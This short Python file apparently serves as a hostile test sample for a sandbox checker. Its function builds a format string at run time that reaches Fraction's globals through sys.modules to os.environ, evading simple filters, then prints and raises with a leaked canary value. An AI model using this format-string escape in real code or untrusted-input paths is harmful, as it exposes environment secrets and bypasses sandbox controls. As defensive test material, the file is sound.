"""Hostile: the same format-string read, with the format built at run time."""

from fractions import Fraction


def f(x: int) -> int:
    u = "_" * 2
    template = "{0." + u + "new" + u + "." + u + "globals" + u + "[sys].modules[os].environ}"
    env = template.format(Fraction)
    if "DERIVATIVE_CANARY" in env:
        leaked = env.split("DERIVATIVE_CANARY", 1)[1][:80]
        print("DERIVATIVE-BREACH format_string_built:", leaked, flush=True)
        raise ValueError(f"canary {leaked}")
    return x + 1
